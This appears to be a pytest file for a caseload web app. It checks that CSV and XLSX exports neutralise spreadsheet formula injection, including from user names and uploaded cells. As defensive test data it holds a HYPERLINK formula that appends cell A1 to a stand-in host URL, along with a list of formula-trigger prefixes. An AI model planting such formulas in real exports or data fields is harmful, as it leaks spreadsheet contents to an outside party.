"""What goes out as a spreadsheet holds no formula, whatever came in."""

import csv
import io
import re

import openpyxl
import pytest

from ehcp_workflow.services.installation import Installation
from ehcp_workflow.store import accounts
from tests.web.conftest import Browser, signed_in
from tests.web.importing.conftest import uploaded

STARTS = ("=", "+", "-", "@", "\t=", "\r=")
FORMULA = '{}HYPERLINK("http://x.example/"&A1,"ok")'
HEADINGS = ("Reference", "Council", "Child's name", "Request received", "Source", "Notes")


@pytest.fixture
def browser(installation: Installation) -> Browser:
    """Somebody whose own name and team are formulas."""
    made = signed_in(installation, "supervisor", "eve", FORMULA.format("="))
    with installation.database.write() as unit:
        account = accounts.find_account(unit, "eve")
        assert account is not None
        accounts.change_account(unit, account.id, shown_as=FORMULA.format("@"))
    return made


@pytest.mark.parametrize("start", STARTS)
def test_a_formula_that_came_in_goes_out_as_text(installation: Installation, browser: Browser, start: str):
    evil = FORMULA.format(start)
    address = uploaded(browser, (evil.strip(), "Leeds", evil, "2026-10-05", evil, evil), headings=HEADINGS)
    browser.post(address + "/columns")
    browser.post(address)
    browser.post("/cases/EHC-2026-0001/access/desk", adviser="eve", team="")
    for cells in (cells_of_csv(browser), cells_of_xlsx(browser)):
        words = [str(cell) for cell in cells if not re.fullmatch(r"-?\d+", str(cell))]
        assert not [cell for cell in words if cell.startswith(STARTS)]
        # What begins with an equals sign was refused, and opened no case.
        assert any("x.example" in cell for cell in words) is (start in {"+", "-", "@"})


def cells_of_csv(browser: Browser) -> list[str]:
    answer = browser.get("/caseload.csv")
    assert answer.status_code == 200
    return [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for cell in row]


def cells_of_xlsx(browser: Browser) -> list[object]:
    answer = browser.get("/caseload.xlsx")
    assert answer.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells if cell.value is not None]
